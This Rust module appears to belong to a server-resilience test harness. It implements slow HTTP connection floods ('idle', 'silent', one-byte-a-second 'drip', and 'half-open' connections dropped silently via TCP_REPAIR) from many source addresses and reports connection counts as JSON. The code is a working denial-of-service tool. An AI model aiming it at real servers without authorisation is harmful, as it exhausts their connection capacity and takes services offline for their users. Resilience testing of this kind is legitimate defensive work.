//! Connections that are of no use to anybody, in great number (OWASP: slow HTTP attacks).

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering::Relaxed};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, sleep_until, timeout};

use crate::client::{Request, connect, source};

/// Whoever gets no connection within this is not counted as connected.
const CONNECT: Duration = Duration::from_secs(5);
/// A connection that is still open so long after the flood is left alone, and counted: a server that was flooded may never
/// have heard of it.
const LAST: Duration = Duration::from_secs(10);
/// Whoever was thrown out comes back after this.
const PAUSE: Duration = Duration::from_secs(1);
const GROUP: u8 = 1;

/// How a connection misbehaves.
#[derive(Clone, Copy)]
enum Kind {
    /// Asks once and stays.
    Idle,
    /// Says nothing.
    Silent,
    /// Sends its request at one octet a second.
    Drip,
    /// Sends half of its request and is gone without a word: the server is not told that the connection has ended.
    HalfOpen,
}

#[derive(Default)]
struct Counts {
    first_tries: AtomicU32,
    connected: AtomicU32,
    failed: AtomicU32,
    open: AtomicU32,
}

/// `count` clients for `limit`, each from an address of its own; then waits until the server has closed every connection.
/// Prints a line when each has tried once, and another when the last new connection was made.
pub(crate) async fn run(kind: &str, count: u32, limit: Duration, url: &str) -> Result<Value, String> {
    let kind = match kind {
        "idle" => Kind::Idle,
        "silent" => Kind::Silent,
        "drip" => Kind::Drip,
        "half-open" => Kind::HalfOpen,
        _ => return Err(format!("“{kind}” is none of idle, silent, drip and half-open.")),
    };
    let request = Arc::new(Request::new(url)?);
    let counts = Arc::new(Counts::default());
    let end = Instant::now() + limit;
    let mut clients = JoinSet::new();
    for number in 0..count {
        clients.spawn(client(kind, number, Arc::clone(&request), Arc::clone(&counts), end));
    }
    while counts.first_tries.load(Relaxed) < count {
        sleep(Duration::from_millis(20)).await;
    }
    println!("{}", json!({ "phase": "open", "open": counts.open.load(Relaxed) }));
    sleep_until(end.into()).await;
    println!("{}", json!({ "phase": "over", "open": counts.open.load(Relaxed) }));
    let mut longest = Duration::ZERO;
    let _ = timeout(LAST, async {
        while let Some(lived) = clients.join_next().await {
            longest = longest.max(lived.unwrap_or_default());
        }
    })
    .await;
    Ok(json!({
        "phase": "done",
        "connected": counts.connected.load(Relaxed),
        "failed": counts.failed.load(Relaxed),
        "open": counts.open.load(Relaxed),
        "longest": longest.as_secs_f64(),
    }))
}

/// Comes again and again; gives the longest life of one of its connections.
async fn client(kind: Kind, number: u32, request: Arc<Request>, counts: Arc<Counts>, end: Instant) -> Duration {
    let mut longest = Duration::ZERO;
    let mut is_first = true;
    while is_first || Instant::now() < end {
        let attempt = timeout(CONNECT, connect(source(GROUP, number), request.server)).await;
        let start = Instant::now();
        if let Ok(Ok(stream)) = attempt {
            counts.connected.fetch_add(1, Relaxed);
            counts.open.fetch_add(1, Relaxed);
            counts.first_tries.fetch_add(u32::from(is_first), Relaxed);
            misbehave(kind, stream, &request.bytes).await;
            counts.open.fetch_sub(1, Relaxed);
            longest = longest.max(start.elapsed());
        } else {
            counts.failed.fetch_add(1, Relaxed);
            counts.first_tries.fetch_add(u32::from(is_first), Relaxed);
        }
        is_first = false;
        sleep_until((Instant::now() + PAUSE).min(end).into()).await;
    }
    longest
}

/// Ends when the server ends the connection.
async fn misbehave(kind: Kind, mut stream: TcpStream, request: &[u8]) {
    let (half, _) = request.split_at(request.len() / 2);
    match kind {
        Kind::Idle => {
            let _ = stream.write_all(request).await;
            closed(&mut stream).await;
        }
        Kind::Silent => closed(&mut stream).await,
        Kind::Drip => {
            let (mut reading, mut writing) = stream.split();
            let drip = async {
                for octet in request {
                    if writing.write_all(&[*octet]).await.is_err() {
                        break;
                    }
                    sleep(Duration::from_secs(1)).await;
                }
                std::future::pending::<()>().await;
            };
            tokio::select! {
                () = drip => {}
                () = closed(&mut reading) => {}
            }
        }
        Kind::HalfOpen => {
            let _ = stream.write_all(half).await;
            vanish(stream);
        }
    }
}

async fn closed(stream: &mut (impl AsyncRead + Unpin)) {
    let mut buffer = [0; 4096];
    while matches!(stream.read(&mut buffer).await, Ok(1..)) {}
}

/// Takes the connection out of the kernel without FIN or RST, as when a machine loses its power.
#[cfg(target_os = "linux")]
fn vanish(stream: TcpStream) {
    use nix::sys::socket::{setsockopt, sockopt::TcpRepair};
    if let Err(error) = setsockopt(&stream, TcpRepair, &1) {
        eprintln!("A connection cannot vanish here ({error}): it is closed instead.");
    }
}

#[cfg(not(target_os = "linux"))]
fn vanish(_: TcpStream) {}
